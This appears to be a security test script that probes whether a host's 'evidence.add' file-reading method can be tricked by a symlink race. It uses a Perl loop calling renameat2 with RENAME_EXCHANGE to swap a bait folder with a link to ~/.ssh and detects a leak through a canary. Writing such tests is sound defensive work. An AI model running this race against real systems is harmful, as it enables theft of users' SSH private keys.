// title: exchanges a folder of its own for a link while the host reads a file in it as evidence
// success: secrets
// where: product
// hooks: not
// timeout: 40
import { json, send } from '../run-socket.mjs';

const { spawn } = await import('node:child_process');
const { mkdirSync, writeFileSync } = await import('node:fs');
mkdirSync('bait');
writeFileSync('bait/id_ed25519', 'harmless\n');
// renameat2 with RENAME_EXCHANGE: at each moment the name is either the folder or the link, never nothing.
const swap = spawn('perl', [
  '-e',
  'symlink("$ENV{A_USER_HOME}/.ssh", "link"); my $end = time + 14; while (time < $end) { syscall(316, -100, my $a = "bait", -100, my $b = "link", 2) for 1 .. 200; select undef, undef, undef, 0.0005 }',
]);
const asking = json({
  id: 1,
  method: 'evidence.add',
  params: { file: 'bait/id_ed25519', kind: 'log', cwd: process.cwd() },
});
const end = Date.now() + 12_000;
while (Date.now() < end)
  process.stdout.write(
    (await send(Buffer.concat(Array(8).fill(asking)), 400)).includes('CANARY') ? 'CANARY-read\n' : '.',
  );
swap.kill();
